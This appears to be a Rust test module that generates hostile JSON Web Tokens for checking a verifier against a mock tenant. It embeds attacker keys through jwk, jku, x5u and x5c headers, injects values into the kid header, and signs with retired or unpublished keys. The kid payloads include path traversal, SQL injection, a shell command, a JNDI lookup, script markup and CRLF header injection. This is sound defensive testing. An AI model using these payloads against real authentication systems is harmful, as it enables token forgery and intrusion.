//! Headers that name or contain the key to verify the token with.

use aws_lc_rs::digest::{SHA1_FOR_LEGACY_USE_ONLY, SHA256, digest};
use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde::Serialize;
use serde_json::json;

use crate::{
    Algorithm, Endpoint, MockTenant, Signer, TokenBuilder,
    hostile::table::{Chosen, Row, chosen_rows},
    token::{SigningKey, Unsigned, base64url},
};

/// A certificate that the attacker issued.
pub(super) const ATTACKER_CERTIFICATE: &[u8] = include_bytes!("../../keys/attacker.x509.der");

pub(super) fn embedded(tenant: &MockTenant, chosen: Chosen<'_>) -> Vec<Row> {
    let attacker = SigningKey::foreign(Algorithm::Rs256, "attacker".into());
    let forged = |token: TokenBuilder<'_>| {
        let token = token.algorithm(Algorithm::Rs256).unsigned();
        let key = attacker.clone();
        Unsigned { key, ..token }.sign()
    };
    // The `kid` is the tenant's, the attacker's, or absent.
    let known = |name, value| forged(tenant.token().header(name, value));
    let own = |name, value| forged(tenant.token().header("kid", "attacker").header(name, value));
    let without = |name, value| forged(tenant.token().without_header("kid").header(name, value));

    let jwk = || attacker.jwk();
    let url = || json!(tenant.url(Endpoint::Canary));
    let chain = || json!([STANDARD.encode(ATTACKER_CERTIFICATE)]);
    let sha1 = digest(&SHA1_FOR_LEGACY_USE_ONLY, ATTACKER_CERTIFICATE);
    let sha256 = digest(&SHA256, ATTACKER_CERTIFICATE);
    let thumbprint = json!(base64url(sha256));
    let legacy_thumbprint = json!(base64url(sha1));
    chosen_rows! { chosen;
        "RFC 7515 §4.1.3, CVE-2018-0114" {
            "jwk-under-known-kid": known("jwk", jwk()),
            "jwk-under-its-own-kid": own("jwk", jwk()),
            "jwk-without-kid": without("jwk", jwk()),
            "jwk-without-kid-or-alg": without("jwk", attacker.public_key()),
        }
        "RFC 8725 §3.10" {
            "jku-under-known-kid": known("jku", url()),
            "jku-under-its-own-kid": own("jku", url()),
            "jku-without-kid": without("jku", url()),
            "jku-of-a-file": own("jku", json!("file:///dev/null")),
            "x5u-under-known-kid": known("x5u", url()),
            "x5u-under-its-own-kid": own("x5u", url()),
            "x5u-without-kid": without("x5u", url()),
        }
        "RFC 7515 §4.1.6 to §4.1.8" {
            "x5c-under-known-kid": known("x5c", chain()),
            "x5c-under-its-own-kid": own("x5c", chain()),
            "x5c-without-kid": without("x5c", chain()),
            "x5t-under-its-own-kid": own("x5t", legacy_thumbprint),
            "x5t-sha256-under-its-own-kid": own("x5t#S256", thumbprint),
        }
    }
}

pub(super) fn kid_injection(tenant: &MockTenant, chosen: Chosen<'_>) -> Vec<Row> {
    fn named(tenant: &MockTenant, kid: impl Serialize) -> String {
        tenant.token().header("kid", kid).mint()
    }
    let kid = |kid: &str| named(tenant, kid);
    let json = |kid| named(tenant, kid);
    let own = tenant.token().unsigned().key.kid;
    let url = tenant.url(Endpoint::Canary);
    chosen_rows! { chosen;
        "RFC 7515 §4.1.4" {
            "kid-unknown": kid("no-such-key"),
            "kid-empty": kid(""),
            "kid-null": json(json!(null)),
            "kid-number": json(json!(0)),
            "kid-true": json(json!(true)),
            "kid-array": json(json!([own])),
            "kid-object": json(json!({ "kid": own })),
            "kid-other-case": kid(&own.chars().map(swap_case).collect::<String>()),
            "kid-blank-before": kid(&format!(" {own}")),
            "kid-blank-after": kid(&format!("{own} ")),
            "kid-nul-after": kid(&format!("{own}\0")),
            "kid-newline-after": kid(&format!("{own}\n")),
            "kid-shortened": kid(&own[1..]),
            "kid-doubled": kid(&format!("{own}{own}")),
            "kid-wildcard": kid("*"),
            "kid-of-a-prototype": kid("__proto__"),
            "kid-index": kid("0"),
        }
        "RFC 8725 §3.10" {
            "kid-path-upwards": kid("../../../../../../dev/null"),
            "kid-path-absolute": kid("/dev/null"),
            "kid-path-windows": kid("..\\..\\..\\windows\\win.ini"),
            "kid-path-encoded": kid("..%2f..%2f..%2fdev%2fnull"),
            "kid-url": kid(&url),
            "kid-query": kid("?kid=x&y=#z"),
            "kid-sql": kid("' OR '1'='1' --"),
            "kid-sql-union": kid("x' UNION SELECT 'secret' --"),
            "kid-command": kid("x; sleep 10 | cat /dev/zero &"),
            "kid-template": kid(&format!("${{jndi:{url}}}")),
            "kid-format-string": kid("%s%s%s%n{}{0}"),
            "kid-markup": kid("<script>alert(1)</script>"),
            "kid-nul": kid("\0"),
            "kid-header-lines": kid("x\r\nX-Injected: 1\r\n\r\n"),
            "kid-log-line": kid("x\n2026-01-01T00:00:00Z INFO token accepted"),
            "kid-escape-sequence": kid("\u{1b}[2J\u{1b}]0;owned\u{7}"),
            "kid-right-to-left": kid("\u{202e}yek-hcus-on"),
            "kid-long": kid(&"k".repeat(8 * 1024)),
        }
    }
}

pub(super) fn retired(tenant: &MockTenant, chosen: Chosen<'_>) -> Vec<Row> {
    let by = |algorithm, signer| tenant.token().algorithm(algorithm).signed_by(signer);
    let kid_of = |signer| by(Algorithm::Rs256, signer).unsigned().key.kid;
    let own = |algorithm, signer| by(algorithm, signer).mint();
    let under = |signer, kid| by(Algorithm::Rs256, signer).header("kid", kid_of(kid)).mint();
    chosen_rows! { chosen;
        "RFC 7517 §5, OpenID Connect Core §10.1.1" {
            "retired-key-rs256": own(Algorithm::Rs256, Signer::Retired),
            "retired-key-es256": own(Algorithm::Es256, Signer::Retired),
            "retired-key-eddsa": own(Algorithm::EdDsa, Signer::Retired),
            "retired-key-under-active-kid": under(Signer::Retired, Signer::Active),
            "active-key-under-retired-kid": under(Signer::Active, Signer::Retired),
            "unpublished-key-rs256": own(Algorithm::Rs256, Signer::Unpublished),
            "unpublished-key-es256": own(Algorithm::Es256, Signer::Unpublished),
            "unpublished-key-under-active-kid": under(Signer::Unpublished, Signer::Active),
            "active-key-under-unpublished-kid": under(Signer::Active, Signer::Unpublished),
        }
    }
}

fn swap_case(letter: char) -> char {
    if letter.is_ascii_lowercase() {
        letter.to_ascii_uppercase()
    } else {
        letter.to_ascii_lowercase()
    }
}
